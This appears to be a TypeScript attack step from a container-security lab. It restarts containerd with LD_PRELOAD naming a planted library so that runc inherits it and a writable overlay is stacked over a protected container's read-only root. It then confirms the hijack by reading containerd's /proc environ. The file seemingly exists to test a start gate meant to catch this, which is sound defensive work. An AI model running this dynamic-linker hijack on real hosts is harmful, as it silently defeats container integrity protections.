/**
 * Attack (T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking, for
 * T1562.001 Impair Defenses): root on the node restarts containerd with
 * `LD_PRELOAD` naming a library of its own. containerd hands its
 * environment to every shim it starts, the shim to the runtime wrapper, and
 * the wrapper (a static program the loader never touches) to runc, a
 * dynamic program: the library's constructor runs inside `runc create` and
 * stacks a writable overlay on the read-only root the start gate just
 * mounted (the same library and script as the runc-preload technique).
 * runc's file and the preload list are untouched and match every pin.
 * Root then writes into that upperdir from the node.
 *
 * What must catch it: the start gate. Its wrapper removes the loader's
 * variables before it runs runc and reports them with the create request;
 * the gate daemon refuses a protected container when there were any
 * (lab/gates/pins.ts, checkRuntimeEnvironment).
 */
import type { LabNodeHandle } from '../../node/index.ts';
import { ungatedWriteAfter } from './defence-tamper.ts';
import { placeRuncLibrary } from './runc-preload.ts';

/** containerd's environment as the kernel holds it: the step is carried out only if LD_PRELOAD is there. */
async function containerdPreload(node: LabNodeHandle): Promise<string | undefined> {
  const r = await node.run(['sh', '-c', 'for pid in $(pidof containerd); do tr "\\0" "\\n" < /proc/$pid/environ; done']);
  return r.stdout.toString().split('\n').find((line) => line.startsWith('LD_PRELOAD='));
}

export const runcEnvPreload = ungatedWriteAfter('runc-env-preload', async ({ node }) => {
  const library = await placeRuncLibrary(node);
  await node.restartContainerd({ LD_PRELOAD: library });
  const seen = await containerdPreload(node);
  if (seen !== `LD_PRELOAD=${library}`) throw new Error(`containerd was restarted, but its environment has ${seen ?? 'no LD_PRELOAD'}, not LD_PRELOAD=${library}: the attack step was not carried out`);
  return {
    evidence: { library, containerdEnvironment: seen },
    what: `containerd was restarted with ${seen} in its environment, which every shim and runc it starts inherits`,
  };
});
